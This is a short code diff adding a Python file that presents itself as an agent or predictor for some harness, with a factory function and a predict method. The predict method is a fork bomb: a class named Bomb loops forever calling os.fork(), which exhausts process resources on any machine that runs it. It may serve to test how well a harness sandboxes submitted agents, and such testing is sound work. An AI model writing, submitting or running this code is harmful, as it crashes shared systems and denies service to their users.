@@ -1,0 +1,15 @@
+"""Forks without end."""
+
+import os
+
+from honest import Honest
+
+
+class Bomb(Honest):
+    def predict(self, observation):
+        while True:
+            os.fork()
+
+
+def make(**_):
+    return Bomb()
